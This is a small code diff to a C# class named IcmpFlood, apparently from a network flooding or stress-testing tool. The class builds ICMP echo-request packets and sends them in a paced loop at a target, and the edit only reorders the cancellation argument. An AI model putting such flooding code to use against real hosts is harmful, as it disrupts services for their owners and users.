@@ -27,12 +27,12 @@ public sealed class IcmpFlood : IAttack
         packet[0] = 8; // echo request
         ushort id = (ushort)Random.Shared.Next(1, 65536);
         BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(4), id);
-        return Pacer.Flood(limits, cancel, n =>
+        return Pacer.Flood(limits, n =>
         {
             BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(6), (ushort)n);
             packet[2] = packet[3] = 0;
             BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), InternetChecksum.Compute(packet));
             socket.SendTo(packet, target);
-        });
+        }, cancel);
     }
 }
